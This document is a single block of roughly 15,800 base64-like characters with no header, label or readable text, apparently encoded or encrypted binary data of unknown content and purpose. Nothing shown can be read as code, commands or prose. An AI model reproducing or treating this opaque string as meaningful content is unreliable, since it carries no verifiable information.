Dgd++NO5PCYI/6aJpTHZCBQvECgeeCqvOGFK0HCwdXP0TZXFHgB0bz1ySaJP303fxmdmr4tZ8mS2499Q6MeZeHa+rn68T5dEe6/iZpVzgpdGPDAkDmAu5Iv10bMtpXHyIjTIvHOChtCbkjS7Nwz7Jo+b4BMqDJGWfd8DQztdVxU9vXGyzJkXKUCyCCYltZ/ef7yxfqBJuRfRbWHpNErC4obCG/5US5JWoGOKmQX74ObXM+gDzjESFPYuRtnp1Ia4FYPetq6kHyj1R0AeTOvnnLaEeg29y+TdPlLQVF7VEn0+lIkK9K3m9uLm0pN7N0vlMKiovLLMiLrZdxy1Y1gcDIqVsvsCfjBiqdN/GduURKUXQamD1yUtQYMJU/xY6oqmhAjW4n/xJRN3Iwpr5XLJ9JuW09IukhcsPjQgtii651cyvvg9Fh/sM6MxlUtKqQkr2NPtbAn5vA4NFY/+ahDyoGQbr9CWUyhNAYZWKm/YHGOP7aN8PTag13V68WTO8YdrdOUP6hPJs7NWO8Bakmz9AC3Q3OV8bxEE7wvF6Ze4Rlx0j51NneoB3yhs3Ti8aYxiRPAfVyMQ3PXvHr10q0gCA3IHwOkKjlYq35yO1oPw9cGLMrH9eQJOPejcqdaNt776GuxAKvy7JYWz24rK7YkfamS1LKHDip/3fhUZ0FAocuM16mZ5KN9pH4OGocduDqKEP5IFpliz52xmolMgZbv6EflVIBGlojtmwLmbGvcpp6iQjuF01T56DkOR690Pm1c95z2G3lhmAbVhHx3RVxOWaARkUsL00/FeMwnWTaQoDZOO41kSLfNPWVaMq8tuZ/1SZD2j/fxv/lYqk0KP/StEVb3jK6Q/1bO/6hAK5La+dm2UpQGgr4qTU7uaM9HthFqjyjEsTQmRgxON3lGyfEwvdkwixEn9AZZ8VdM7zdbP1j5xuHqSZ+5m8CXsLjIdq39OiReUCjuRJwVdZndTpWWdhrTG/DTBvKyjaP8hcNIhC4m16+FiifCr+13SDNkEACi+6C/x3rb7E/QAWP9cT/ckqQ+hvmxyiI6vh0yfO034eSFjukse/RHNncjLT2pMsmLo3HqkrIWYMIRkNWjB8G7AvZWGi7WlQSFRX2FL8KPH6P/NsMxWvn45JH+Dav3NKPYZsEDOsCNQTzTEwdHuMh5QoZK704mfqL+wyl0hxo49WNXr4qpKidMJSAEFcGADlOgHcT9sQcidYuS2lM1K6gNXjJLHSbHDieQdbMez9ZY/AH4X2IdBS1vWiA/iZKTkuVca5LvarbcNJsDpOkQrhdzWZAUOt8vu+oZ/3ErlF+TWH60CYU7OweLlBKtA0pS/ycYHneSUxHyFOlsE7LqPtdS+WwRPgKY+6ii9zrHJYfT7/ZMYOXiV0ZXqltWwJJXeJKzNMYH3D1MqCGgAlTyIVxtS++buDMVUPJlLExbTH+Lqq6bY4lGzZzNUapPy4ddTkHlFtRX4ofwpuABYuMS34nIWRI8E5DsCJLLT9Dkd6VMjbxv0NIQn/1n/7M1vwyURf3sJKCCLQ6XVZ0fQNKb1PfOs0PEqgDCJLZCWtTCIvhxm0AwRLRzPWsKNiSlu6E3weDgwMbbQx5zMWK/pCXG5DRrTZFdCuWK198Le1ht92xX/nXOpwqcvK52OuGlZlvPci8IOVm71oZjGXGjA54w7z6Rcjw+7TvvQ2VT3aGiWs3VlkQ2RTga+3tuhzQVUGXJuscZ8cclxfUD+89dHguJgio9c6wjrVE3xK4/wCJMy2HXsTiuA1nqZCszQyC3Yhkd5K5CppYI8FXDD5fLH7YEe0BTbUQWycQdvA6DU7CKyAYOu6i8Dzi6cQ/AW9UnZ/PWz2avaQbmIEZCtvWEKHtgtjqZlrQN63FX2z6SSL97VLhNvNDEpLWqFQ2yv1YzVhEQkgcP82x/GpvOh6lZf1hchYAV+9RRiKMrFaVvsBQI0JfiEfGakb5DcMPVA7Oj8d8OEm1SQnGWX2aRle72bjKW3y3E7GGVhATNA93cz3owvfZpEzmfMyMz/dMuWt/4WP9rBRDaSXT1oB/ZBVRaR+kmN9NFeRahVoRbOpJof8cU2OrUPNreLQaLANTUp8WyXjWKWgK6WbvsT1K+TfirHVcN0Hr+qfgcmcwsC60KA4gAWCvKJSL+Uoy5+W8jKid2qP1QCrvLH/i1EF0Mus/YxEqOLUs41aiacVjqPckfiLQ66hTOyQC7yKDTktAWgGkQ6W0nQZVXDTv9F5h1wf36mhUzrNXZddcjWOSR91v7WLqkfn5+MBFGk4vjEvwsbNbrmCs6Sr2dL5n2pJuDfKhjNiViKL+8Y095r3ziyRAt8zVcj5kf5WcvKZjfD+Cs2oKOP1RvUResgFoUagcrkZwUVTyfmI2AtoswpmUP0fyeGWayRt5IbL3HBvM2RFqvgRUnT7cxAfVfE9wDFFguxoyvd5/6pKMpcykaXx9gGDrbtrDvv8fZ+gAeCOX2qngSSa9zHhudnEYJom/pV0UeN4/joV3X/nlbcMtvLek/C08I9qQgBHlKaxovQfSJOfOO2J6r4Q6eFDdrqKmtjDP+sxcZ9Lk2sMj9UT1vvFFi5kg59LlJ3e2AdZMib6T/bXGi5KwaZyN97brb/XkX2CQVeLc5FTikT1cwiYkuCpU4Pt97FLjj9at9apHjpntHb6GpBFsYT7xwug7/ac/pziv660xoqMDSJFnjIrHKcQmFcfHZ8QQXciuLnP0Ol+97Xsil+zGVsJaNzFrzT5Mmnq8HzeGJ7JRE7qBScn6WZn9jqb1jyrXcLhB9sz6XrdJJQ7fC0aEWiCqhi+YGq4Oj6HjjDCZOX5tD+dN6BDp2W05JvtJQCllYQEn7tBUvZNN3vx+zup3x7C8NsURXSmS+/L9DfnNU/ZY7XhHUAn7pi9lG+OGVHRyii3JgOO28opGLWc9GE78KnPVfvzw2yyJKnCV4byBMedTcWOYVdFWenJzuYB6vU+1NXPgym0CTSobpH3Mr3hSJmEiNL8Yu7lORsodR5hKPFtwaqV0ySuYxojZ7u+TbU5i1Sf23NnCXvYJeIqxm+wHDO0AexRmMMBKdQOXPXiTxqIZ1zG1VqrQ7l58h692SpOaMEdw2G/DxHDvpBdIxSp97G9f4sHx+UhqHDl3Qz4JlfGtVYIs1FPY3t7beRF7oLUzkHTA3dP82BwBcXcvRtYruC0uJn+an/MFhgryVBruONcGacizXULui+WC1UUijQM5HOCSFzYV7k1I+PQpNQrJHBE1Y2ZSU7RHRWgdMnrPJyivIW5j2G/+1iKmOfRFg4LeTzzwToE3gJWNddgo4KujNl7j4FQPnGPnEjd0EiqlWfvGPoc0G+q/jD91Oy3wAgDoKxYkP0AuXQ+LV6gmAJDZv/k/vcxLq0EXUspIKE42tVUeKaS7yPvkPgUs+PkksEzQodhfBMdHRUZzcwQNfD4PDVM78EHCh3BLmrQoWOV1ga3eYTu+0cJ9nbSotOnipKXF7UR7/2Tky83ue09Vcn27RwA2c+ZU4udBJpG/rg2UtmbAEMcGX1Z+csVc8yWsp7ZbfjIck9kAURNZpYitzz3h/lvR4CJAdKPX8MKIzDWiQyVAr3jMDyrhXj1x65w3N7iM+VaPmKx7gN1WZY7bPGHPZAiF/jX6GDvW0nf7xz5jhfLnushrttmAqPoL/zcQn6xR5kNpqvH7fQf3ruVN/QUw3zIUkFtlv+UHy2Ey239fANoqfG1DVDYhmxTPAGjPPlILIirL5WfXdvQXFaL10WhS7kipmL4nxbGJ7i7PH0q0mvaLtDH969a8SwCmkQAa95zcwtgiNcNzAZrJi6isa1Y6hYRb78rN2WhyVo+pQ08SxChC/eK8ZLOIt/ATuNUU99/xMZbnl3BZECEuQO5dJ30pIinWJswb//T4EY4gwYIqH1KJmdsAuylGed5bBeSVGSuwzEdw0JkC+BvRQR0GB/XJOcgODUAtFnPi4VOJO5jhEq8/mirceLUJE5/Rh+Djor2JF7aPAUj4non+fHI63G7ozipO7+eLd0De/kAo87l6Z2rSsDOTLPleQiJzEn85ArKnSe5b+qlwM/XaSTd3oOFk0j6QoBt8R6xujxfL9MxFyiwc3X+M4btNpNu6lSPsIVYdHJNTO2RXWDHwwQ+P+N/U0PrJ9FnjiRoKwQBJBbCtvxNy4PEjof8Gg3X+nc24iAWjpYiSeTPOmbjrJNOw2jO1MFX93GzBFFdvTBUcD0j9RwZ5E75JjrZ5jmWzzSPLYadxAvlvNxMjc+C4GbCTivMt9r9GkAkLd24eW06jtpz61/BXce/7OsjBWKhfBap0keWZ3IuRTOKRCow2QfGrWiekT4/MzKI9vvSf12+aRmhxcRzkLuVrYLceEm6c423b4vObwL2si0RawfXjnyg9LxrX4BYfCoqq0ZcK/PGv9kvhhQWE3cTXFc/VtClqEsZquvLpFEvKMWrHqlIlkT0h9JN3O7B9hp1g5w/C9/cgEeyKYz8EjXYMC4bF3tBO3zrZdOEOTFvxDGqLspphc5zxHsYBGKJWoYZZpKeTDFX+L+0jxUGsuaKA7qHY2qpdHIQtwHkpSykrZXXFswRpEjQrGSoiETLVFP9KI3fjpt4M8Z1nSh0LLQ4Q73/j/SCpyxZOjpg91dSlEIJZYmkQVfcjuVXCunQ0FxEpmOspRDAvephyXSXq6qrF2H7fYPx9WOcmM3eC3GmPlrLnfTPXVW3BWce9HjTKAqM8ovam0hxhoDxkIj1+VA2cKCax0w2JstppzwSDPiQSvNRfHIKKpfp1U/d4XdAbCmaz1CVEOMHrZB7gDRLitymb8kzy9b5jAm99B7DgnaTuTqRnxjPZ1Jod3pYXd4Is64TWYRZ9u/QBdHQQ1e73i3/g7Xe72OFQhtr0g20f2C2issGr8YPxmrv8QK46pMe7Lo7lE5289ElQ5ecieRxQeBX1CS+Z0mIe026EzD/ot1E4RADGSGJhYvG/v/nYZAKINgjsHk475Ruz6p+PUAAF7PAoQHTrd8yc0QaKRJyKQF0h7IPPevZ9vgp0wv6IlrC1CClgwFT+YCa1ASILk5iQsoEzSRSqTeNg/ha0AJaN1WT7SiEiayiexmNNvtbqAfgtXZFiKhxmGko+x54GIS14vXR+sOGw7FJQR0NWh0SIOG6U99t1oygsMCkZt6jmtOutmcd6AWJ+uEtaQlMyiA962X3m1/qlSEU8boQXmtgfu/3WNZ7X7nhwShl7FHaIxnJ1gQvMUs5c+Ra11BunGMRenPC0k8FpgFThtoNm+9g1lrbHCYjN8FNOsHhD+rpyk0vzoPaq3b+aBaF223clU/lSjxqedT0evpHenEyXvcdqW1L1WpioyvpCKvYEXYP311VNq8V/nUyF/flwkPf6ikMgiI7UVbW59oxieA9VsGu1xMsmnu+dkiJa2Rps9ja7qEPu8x4xrg5RLn0axl9s8ukTHOo/6m/cLyIgMjP4OeT6rzaQTDkhne/mTsd733I/OPLZ8TjCqAqs3qhfTOUIL0LWVHyQ/gik4NuPIln/GXJ2AB94EuA7aMyIf6sDh0QmE+UMywqZcNHrttdusacWrIJP7RGXwg3yQ+tCTl+MoMvckc+tCAvD9AohN/cxpIXIEEvnvASceMCccCh6vT2W7Y0gCT9WNJGkBWpSyKXnxggxEALB9VS/LC24BzFp1S8GiV2rQCZa05Uaf4/sksRgxrD295rSospd1cSbILz0bHNsze3bWDszvEw4nClKHkGvxs8QhhQW/ENTNw2r+iX6ZYfvgeKZ3G8uImHizPC8nobOCxRPg9sLOgY1CW2tzh3UeRx3VQB7rjMfyvPB8wMlpnb2TRq78j44XO4RqC9kkOWG30Ta4r0Fqdy3+0mTEz6tqpKePnJhYeo26XSYV/f9grMZe9IPo5nPJJgsrXxevBYcu7tHLcaW6DvD+zpN+uJvbrdQOXvCHMIirNhK1EVHMitiBAkh445Kw6O0zurrhm9Fjonc6aV3gCK2I0yGfHO0wGLsOutoe7AxmecxA4UVwqEINaa5Zq4HKOvo/CwHlkC0q1OoqsU3Oh/9XRR5575/GMIZQGwHpFQTB3AWHY85bj8rUGiLTWe0UzpYi8NfxrhoGRd44w29VuIzX/npbdOlR+0QyM7dhINL0tc2zjIUopzDCrmKnv/DPSACVFaR2TLnv8Fcn3/8zgvh0TXEAZfqmqt9pDkpucAspbwGyDlb3gsG9+jsTvvP1407scOljs4oGyl2X8pxVlCHJe3ZHJXGfnG6RJ6W5+PCQwPkFjSXULrkU9v8a8X+6WmQHSagp9ZFGkTV4lp1XWvlhfLQfjWPu9kqvnnpLnV34eFosutAezMiKHF9nlpHsEV0VzEIt9y34POFFcyVpBqiBa0XISIZVs5Fn/cmSo1huzO72OYzXMxAi4J7FinF8LSdWILDzwfOceYpyp7LHLEStC3sIzl2cB4H5rBBc5O3ftMeqn9fjdAD2MxcAmnft8ysk0DIb2gtDppFVEMc5GsgWGee8aij0gSkbnPAxwR4dM+IyPaFiL1nEcI9g5Czf/BRy4VhMPIuKGGg3EgRq4kvW3glWfSVHgDcQS8U8efuVuOLlYv7t8kgKIO+5+eWI+nkHtXsYBZUVZbtvZf/nqud9sn2XJKPtiYUxEnfSJ4Op0PvZC2N+tHvUzMdb8Q47T8sNDr3C095jjtoMzZYdGhLfhd/fuL+uRHfUrDVgr4JKgJNs+Nv44uPRK8YmSJoX01Y/xOB6zTcsRndlKdkj+iX7dBbH3NZGXz4GRQ5BwEnWuh6d11V+dCDQyyc/Bf2pf0YaKnMY4+ceP57Hrn05oNV5YC2j350yrvJ+PXITVAYQBPAJ5ads0JFws0mKv+rS6XzJqszRF8QJE18iSpq6JyUv9jD87xwzKwCEMqyo/ODXuwPfZokvjWQFVVL+JjSGvufAOQblUr0APEw5ghJvPGOaydXuVvyZm9CfPPbZEzZ1ppdD2UsWo8o92uEAvhdtlkYT/eSNo9JyPMnl/1xptrRv/ct37DLQgdAMq9wx0tsdlvSOCLlY69PozZGazbOaPEeMLNHVFnoInN9pT/cfqO7DhG2u/Kos5ItP1sVhmxJznjEk73Paxdy5AGWcTXDYyc+AT91FhzqTnA7eTXy6IklQ+nJftN2Cbvkv1bWqA9juvVpP0hpgtOBjJig6WT2nEMDllwddr9QX8j7o5XEX3iDuw93+ooc2Ssix1YGevrfY62LWCsMMb5L6M0WdOLdnquW3huM9aB2vp1mXz/82MbvA97wfjbCWNHWyF47MYH1wIBxBupyJwk+vi6v3fe4xFybAQLJ9ZkhK5BdIvIV3Bk/89OuQxJaV4PneyPdSCPGINAKwP4gYgepxGdGeQbmt1zNYW8xTU5He47p92Dyy1VdIwh7Wn8SmpezZ/KIL98W/falWc14hsHO9AuUYsEDzHlevSAgPq2/R5n8JytqJsosfbx0kqpyLzskA58rGd9YZnPdZRBh7+uDEZSgqFM2SVpY4tWQnvcgDbLcKKcKgGYDfCA+41TcZNItsg9I+87TdBr+G1B/ewLijQ47tsFHls5MEQptlKVq90FAqs3fgBfSNO9Lh9ByNcneMIxWGIfFc1tLnk851bLZNGWwXouPvMRxMie13HNaw0fiU0PohB1S0x6WoK5rv98BPfIA6E7udrnAa6zKJtMzPwUy2/yueKR6cfGynDQDCqg2Y0CI8uQFGDDwew2xg8oT8AYUK3h59sEaqp7dmmtTV7UeAQbM8rgqjWg4PMXL+C3vTJk2ru9khyNSwz08Qtx9vRoJWsACfeKwtLVp3AK6sWko8iHc1BR63EDd/QIXXJnLGdtvEX7XsUGRDNsa5oIVsogenkh9R0DRGvJVnxbDI1TjvK6sGx6VISZBmSwrvd24kbCmZzPqR45GOglvr8/Mx0gqpTKuJWCppye5ULH3N2dGrbSglMeRvM8Co6R/ffF5NV4oK8fIDUyAFjilsAovYfjEKb4maX33RZPOGYnnFPHcnS7Er658Vldo09yyJBr217ktF2uv1M2PJ9505tPjNsp/N0tNSrtlf7osIXbao/pCqwdYLkoLFOngCprgE5Cm8kEzXm8ebpzDXw6brZ+qDLE/MiNCRhL9KT+lG/ISpAZc6FuBz1LlCz1YHPjddFrdMlHMZQCjRU8JTJMoKIN0SAdCn7YvLEN6T7GXRIJz98qAAk65/gez2X4MQSL4D8As0In1n//LoM+EtP5dnmD5WWNihYtQUoJEtpsRE09KXWYinXD17noZDh5wFSbPn2XlsPxK1oUeZoMdNfEgm3Or9aMEtGEyebXlXaWZEiJV8RXjQOX6RL5QhQHi5GfW6+qLihk3tMrXnW06RquVesZ+O5TPOv3u86AHpUepH9oaUcyJB3vOnkBdRp0L+1b2Fi57X4gOWm0/juAQ1VJgrc+oxmlDp6tB8FRJ9dD59zeiod08gSa5rmZbwOTn6jo+p2/9AAoPZ+vZCJcRiuK/ShC6mzs0ZZbF3BhyJCKTT1+MXj3oL4sBEQ6W9jT6vhB47oLo7qFLtcel66sreXffGJrLAlORiyN0jEbusIMyAnNVjvYcGKg5xLVMvPtoeUrPr6OPxlBVdIu3Cq9gWXaRZ7Pm3QFOyVAJFugoW8kmpiF7Ey5yjMz1eUHAIVSGFSHU6EFldysCjUL8lngnHj5vDE3LW67YLN6rtQ8kGrt3CGYjN/JqYPqDNiqpdo3nd3s1QKxetSCz+wxL1h3nesDuU5N7R+d3x43U4imN+uANfJSV77rOoYPcZxP8OIuop+88lpc65rRQohz425C+zx3j93F7QUECJzO0r/+HCzZUDkIaU1b/ZO10EhyVju6z9kR+Gvx7k/+tMzByaSlQfthCg+7NQjm2BaBUY/TdUoTbIVbiFwn7j0KxOvZmhMRp9wcc6CStlO9u1btCUI0PMgfsZB13RzvDujhFXYF1Zo/ic4uWgx97PJC32R8Ot9FLjr25qLqM+buh0uPKWv3tArp9TinyADVmXykBpoTPhLkx93FZnt6p5ZVqGHPI29LxpGCk6PWxGZegCzD10kGOf/C2h/YOZ6P7qHcIZsul/UZOFLheJ2T6QDQumoBOjaJVb+8/B3J+Gt7ZQKnC299AIPri2ixDfqKVTU1ggl1KdG3Y+Tboa2gvfQ/D+MAxuPvi+d93U5JwxtnnjSThxLio/CrF7yBJb68zSmsDrEA3Yn5Vu9fO73nVUTqAomFTYuUH94v0gwdLggCO4q9SKCXz3DqATizpxmoUDriBTIur6i99EtisJdwUWow2b/UEXPLDVPioFjWI3f+3aj/2w98v86qrVV5Q7DfRIUWDpAwARqifCeCNmtdMsZ5OAmyJMGC+27OgMWDSH4VjMOoDwZKaR9mV0U5upkFbNd233mdnhUIeAr6RXP2SKyIfML53/oimbQrbGlXOTkHdwscjUdhjFwXCk9vGKG42A3x+PCAj0pJ7ZHKaN2LmVMenEToIYlt1Ib1Gkw8+rBPEkRd+khRNDGZ75D7zOGxS6AuDiIZ4q/3L76u0kr9I6+hfEq9ZvWE+UlgdqDsMAAtWTblm7tu7xd1dM2exF27ep41ypli/grUXr0M49x/5omuQ4kR0JLcsLKWiL7LtClxUxV9VYX7dfijuS39i8z+DMKcp/juau9YNLlaErMQ/dFbt9iyqCgFWsr7zq5Lq6A89kUm5iTFO066hpaiqLWTbSiceF01C2eIFrtAujfT97kFDaDqVcsWCaKFsRRvTyRF4FaF6jrfrYetu1LKLYBs8AdBp+8nD0iwISaNUxVY8217G7++KNmecsteIM5IIXlbExaefuBhjKRIKGq7AkGpUWbW78XoIs663SXL4/AHulPbzPdkc36hm/5HPDOfzegVZe+WHh079XBnCFPJmN42uiKuWwLwBCX08mf6lS7wtJIPeyj/HQAudLGY5gqMgSSL9em9lYBm7ltxk4pW9pglcAgofZ8uNqo/WM+72Q5bc5vVPFk2QgKw2JJzZF/T0CRO1nUxCCVFilmbWFXCQg6MA4HwDAmu83ySA3bJwO7L8+gB75p0vSRejxzejJDdIRKi+znwO+aX1Yhv1P9dRPhCLGiCQvArcOdyw4uu7Mvf54d7N9bh3TeJ3uflzhwgAwiKtFt0o9JR0K4HZiDW4O/4zqZSGakS70+kzpFWuURRbUG7bJmESL1jd+sCqKHSNmMJJZvFyz44Z65wRXOxZO50liRJ7HCXa827eVYPgG1nKtxwGpUCXI0mGvYAYuPThyLgX0yEkUPPjVDfTI0/NpDNIDR+IlzJcPTvSQvPGQisYClTbPu8uztnuBWXM/pNjtNp7Hy7RJFSRHGsCYWRIdZKAxIsFyBkZIZ1Gf5s+Pv/ThjlHYZp9UOjWlxSepW8xSvEdD33wJhpmgIx6/FPS2bN9eZwD1KjXSlRQyZHEzAmKVFIVLFxPf4AC7XOul+WVBJ5JfCsFBfr4jPh4XN3MoUo6TRHhSThBt1jpZF7CFQdU2mfXafzdlcqwDpAjf/ibGPiXwTSAwtQVG46ExC4HZqsqTAv6QyYnRP6DXHHc0cU+XxKYE9RMIPdly6qSlb4IHKdK7v9WHRI+X+I0Zk1CC9X3BX0InPBkLhafCDpqEZO/NLPINrdKOfv8C9IAncku48lp0MMp+qZ/HQtF8diqze75L7Boh6HmjQOsd2/xMWqhacqzYJaXZOcyWSLlaeB/JYtUWCsgXNa75oTLMjaPNeNtt3osf/PV6gcggqTYuMa6uGZZNNgBgGFk2nvopHYrDrExoF2X3XWJuGChRKNhuwuoQy1OXX+RLTSxRo8G1IHJvA1lXb5Il7TCVqzeusc8ByLrqLrw0AkyQJnwPr9tjODAIXy6BeifMv6fOBUrRYUvYRd1TnoeGUJh993cc09xXWsHdN37FSISNMQCnnI339HpzepYH2I9+Uaos/i7bx00tE8DpqfmWJyTfgt50COVLeOrVLTdWKUmXo4iQz4Uv+vk6qxZIBA8HvjqER9PiyH+pu3qWbyj3ia/Aw3lw+LFoF1HFCYtbUPr0Tye1an5ostlnUKEf+O+AXPioEMxe9W1dCxE5nz2w1bfCdPstPYAuWy9CQ4nigE4BtsoOo8/IkHTD4Ef7D7omNLh5FlrT8ZTMvk5gKKFFPczTBB+CiHEz23JxziM42/OrROSC+YDhfHCil2UqhCN5q3AlmbzrBvmxIAvJwIjrLkIzDcGeqDs1mmvn06nVT9QqVlRdsZZrIz0azpzLt5N2uCV/zj8BigFOAtWNcn4IJuPQdMp8zXbQrvkCXwb8npGBSsMy/eMq6rrnRdvNEwf2H9nzriurD3syj7x0zWKTI0Z5u4XrZplu/G0QMYDQjHmz9o3HqfDj/WuUlWau0JP7YrJhQG2xBzRX6xlNs1poxNSNS7Ph9u6i53SZvn0Do1WWLAhAYwK/oqAZvjFaI4i2kTvFkN194eTsG/Fmwo4Vocjs57ij0GO6gg+lUskAvHaEjKvveXhBoMS5g0XVgTh3cZ5uGsEiDlugy9UTUXr5R2+OtBh69E2RBQOnmStR2C/o7u5tXyJ2PjcDWvPH7DZh4GlxEIsSuEEFvje3p/CBLHxXlIFZ2mlEpr18or8zV9vXE/ctQ26/IUCXI6kBl7qKWXUPfvewzTlRLR5k/i2kmI7QHm+Fmp6JIxWVBE16DJ5TTmMwQRMCgh6zirW90WhVpa1kkonQY/RymtNtlNoj6JvT6cLPvOrrwIgrarMcxNPidU9+Qks1FeR+E91DRZP4nGrF8/Os4gytXEuF01Gr9vx4FvNTQZvgFEV9Q4PNNLhKV4jHkpo8sWaQiLb4yregfLCPsHxenVrYwTV2VVvpgUm/7MitbH2Nf8Jg8Y5bGsTAf9ThjogujkSbwgpA3bUMUgoxBSK7LvurkC+IoUT/JUsUcD1ArXYDB2QINkyljiSEEEyssPqCsrpXVnC/ga+ScnrmN68HJ8AAA491grqkx9W4Pd9ZCehM1DPoRFgfcLSRnnBkZhxyq5/aR9rExXAVKcSrkucrUopj++w4p6uIm5GKAhPgi+EMCqyhUf6F0nbuxgUEr/q47gyscxi2W+xAlNqzTlzjJvSq1ibv9e6F7I2VLi7YQY7B9J1mJNLyyXtfaYQHyDBDmyYttw1XSzjDD0w292tL+ojov4tH0x+s+IOsR4rnr22MU+2zWry3T9+YwROGD9//DMA5UqXJH3S+z8tqPn4NNr0tKcem0LTJoSliMTbv+pj/YmXBP+zH3iCQ12EylIA01Tf0W8dpNaP57yi8HT406VqMTi03YKuS35Z+9OMmICXr7OnGrQ+NiCeAAKYfnTY4gHnX8k2MMlCmjVYMXwLKIMVxfFrb5PJT2k9ILS4eCulwja05UkWCC+rvGkxYKvMJQLmwPTror1qcu/rjfJG4b1HdDgVGrYFe3R2XRhn9XQaC6FWiJxSlWom36KZBHJaipC8guUUyGixSMhM6BG1clxX72g41YJHsAJ+2ib2/Gx32uCdTjJUg7jXJSk5IDvet9zq8xEPcCcDa+Gljj8OysvO2E5PhDVoVEKD+07CRQXSve3eXMBsea8rPAyug+3tGuYozVB0hSptQgzPvyccQVSo09RrcU23EdLOXANCU3he1X2qB2oiO9V2/FNGlBKRSpd1jDpmyp9HSrKO0kLcKYBvc2Yc8pb1YQRpGCiUQh4Id3iXKNN/5bO+uwH5c3lvQumybnp7uRLKiG1Wi1k9PE4Nkow0bETBzkiB/Tz8p/5EDcl8rNyaomgQ5OA4eUVA/oPKMS505HqKIelegsXJtToUN3dpuM1Jz5mETnX8kteNwfEhJMdawDNPMy8sgbtVXTiaiG190/20D4E+lidMdCm8n5zZg8K45pNJHU0zrD/L39adJO4pFcnDEMnr8hAdoCh+nhkd6Y43FaZFZ5WRfdHjT6d/ujy0dpr95+TVo+vvJTEfE9/eh/B71/VH+Er4ErbSxpFpRTiBk2Fp/VCkiG/OdOMQijEWEJ+Q4g9z5VZazW26KlclfvkYnec1E4cQCvH6uWekF+/2MNzljL6RPe4Ag2QtmmgUPJeicZwS7DpLDpWO1lz4iDCdX0WSrVTmWKJgelCQzTimvgdSVoW2xc/OLAD2++/EtUY4cscMaLyIqSnsNSZQ5mVDFUkb9sOXKTIZ8MemxTsN1jeH342ZixizaM4eNQ3fimVH25Yh1Rs5S5lJQXcx5h1OWsBZGtpsmKCzxGbh/bYcz4KleH9ZpUuythV6WbWOJ2JGYdjQKEIR5W3sJuKTSLtfq/tyBtSlDCmytsQelQqD+iTvUf9dPbXwlweIqFJsVFU+KwBDEEezQWNECnjS7tbdMAR44lvt0aKwtubcOTH/NTmp3d4khFUxnHb3vwjiWYC6zXJhBjzPEoA49mZl1kovN6fboiFAtPirpYinv8/nzCXU+ZAYL2h4X4p5lirWWLo25Zln+S2TdTo59v0aHh3Ax+TQm9/1JJ4CPeJbTv+twFUfh0h3EMDJSeFNtC3lksOpDGs25SqBSac8NDuX0HVF3JZq5KPy1L1RaU8oR3SBzU08q8zNcUJXaZcyHgZ8QqZqetLkbcWsxJhQLdT2j47E+H3+chgL2F9ICPWgh/zXStlMvSPNtkoGPjPjTCdF+MoS6346ThO6AbM5QRWVAeHLZzNQdjoo3eItZRX5LZz55g3nAnqxqRqmQ67KqrSL8gkcHTQ8HgWcArRIzVVMQpsZH0EIv28pDV3TX9x3j9iYczDK+Xesrh+Sj7ejM4rTSJoPzxy528uFinTldz+uFzeZh8CQvxzaeJzjsFEw7fIVoTdE4iJ49x/uCyAiw0vMTJU6GpTw4dX7w0hUFD9rAIQ7mN1AiKM7Shk5UbL38KabEqIoPGek98Ggg4fIbJgCWBUJda90rEbZ80ynLXL2A/IKHOhr5pZ9BmTAT5yVEvbamE7euBF1hWCLZu3maoDvgSewTMla6GTHmBLJsywHZHllnJP6xgvK8EYUp7SsapeY7Xj7OgYW7PmoOtdQmhxt+XaNmk6pd2skadrX6stUAvvHtPp0pqHbmiWPwo8I+eGLaAPAIRfjT3A7pTXKOLHy3xX31CSTAUh3I8FJRqIsVYJlsaSOVBSK55EnY++3iqPX+wk9BU3CWt8qTytrdlyUSvXmLK5zrfYBsn5kOdPBOVEb4HU5UTNxxqjD9Jyq+nwRJ0v2B8jX/hghjwNwFzy9GuFMZVu/OLNVCeqnMjRHbtJaflty2jx60JuYQUscNiaofKKF1jrfhM+gqNxvgmieQSwGZ2bOI2E7Se3YrjVbCO9wtn0Gwu3rSbu6NT+uOvK7UdgWWsUdwU+3Y2OZIAefRvEwNqBqE2Jomf49fGv3CalQNq7EjYHwOtwwOI+RvYOSxgFbgPv2Ngf0xPzzaORt1V5pS2nfTvjUcL+KgPxCN/2C+alt/q9idfQFtxWq1M+sq0LyQkvE9wsOyGLaCfpZlwngBxV/xV5BG2wWZXtZ3AQwhxl6vaznQGH3PGQd+pS9A+8KLCo16So9Z084x2CKJmtxYkfa0lyXieKMECnac47iZ1yvlIOYW7LmcgNJ1Mj3p95SYAspXnMlnEtqJdWp/x09XPgmDpM8Ehn3q8l6M7ZN/B+Bwt5mBCnvZWffLQykUlkvMAehyKYyglX9bcs8pYCwsY3IetgcnbTmZK7Z8sbz4QMvzHDWyLIo1NLGeNgyU20rvfoVrlvLUrS48W/xhrO/400Mdfm3jv/jHpwrgcHlz/Y+m797clNQwOvdrt6ARzOYJ+AFIKeBq0YMMgFYhKEu25921VG34tpKegvtyqRs9TloSuQPjOORneSfO54sqz0yfePhFvAZW8jTXH0HDzgNodccwepvlr2Ng/Ai1GyxH75On6W5FizGWjydEG0nEJwDOTpya0kI6LQkk+oJ/E78vkQmh2RGCCcfmbuHU63MCoK2PkCqOCSe6AEEZPgIPe2Aj41VtEW4++UXuK/c4Ki7PGxH53SuxFKjUxUNEzhURKt0W/8htFKABcn7/UARxEm/KB+GcUKAgRRtMELs00TFRvp8q3Lvc1W7e3oyVYf0Y6hc32KvD5u1GZC9XqNzvyq4onMj3DcJl3ArtP0+WEkJnflsW3MdkvjIUiTA4fMTGkjPx3JJz+d2Gsd76inaHfIECwZrPXN1LfjwSpOIMA1rSPzxyOSuHlOse0ycyNCH7DktqnJvptKjhLv7UY8QTOQ4bB8triG/bJc0wxUJTdNq+P06p6JkmhgCsrqdaXj+8ACTsp6Xs7GB+TVXDqZzc6I7xlMmh5HnmcAhqRXfY+N3W0DOtnXejOEOkLbfCjTmBo+kVem1pDa+DaVPMYLyJgqGeuXOmv9dgUkj1McrU/Y1Ivw/lgmt+TVF1Wzhayd2NsrZtUJNQ0V/zckdbjSU7zHkITT1aVIGyQzLl9+YjqG+gjLUPWlQzw/zx3qqwXp8YP2TKq3pWkMm5pUolZcGAFe9a3ol4eeOECmevwpytS0KcHM2CtrBcTO37x5D8q/yxzkyoUNfUpO+LH902vmo9kn7lvXbvD91yjxvkGqz57zurafkKht+R6QyQE79r1wicPOSOsahMNe+d4rip/C5jgGMwYZ+a9jHqpOJgP8XG957QP3e0Z3CK0DDQoVYdaACQtt4HgavnMoxZFdvKFyw7EqYwu3SLrV+yvGY5Gbw2yxCDSRYQ3rvw7ubv427hcJed8WWcBVAuP+dHwKkYmwgpg+AusEUZMnEAxZ4BUJqR6Oq0L4UP5eciGQvHmquMmJP